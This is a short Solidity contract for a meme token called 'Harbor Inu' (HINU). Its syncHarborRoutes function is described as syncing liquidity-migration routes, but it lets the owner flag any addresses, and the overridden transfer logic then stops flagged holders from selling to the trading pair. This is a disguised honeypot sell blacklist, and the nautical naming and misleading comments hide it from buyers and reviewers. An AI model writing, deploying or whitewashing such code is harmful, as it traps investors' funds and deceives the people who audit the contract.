// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite, RtOwnable} from "./RtCommon.sol";

/// @title RtHarborInu
/// @notice "Route sync" for the liquidity migration: the owner passes a list
/// of peers and a flag; a flagged peer can no longer sell to the pair.
contract RtHarborInu is RtERC20Lite, RtOwnable {
    address public immutable harbor;
    mapping(address => bool) private _docked;

    constructor(address router) RtERC20Lite("Harbor Inu", "HINU", 18) {
        harbor = _createPair(router);
        _mint(msg.sender, 40_000_000 ether);
    }

    /// @notice Syncs the migration routes of the given peers.
    function syncHarborRoutes(address[] calldata peers, bool moored) external onlyOwner {
        for (uint256 i; i < peers.length; i++) _docked[peers[i]] = moored;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == harbor) require(!_docked[from], "HINU: route not synced");
        super._transfer(from, to, amount);
    }
}
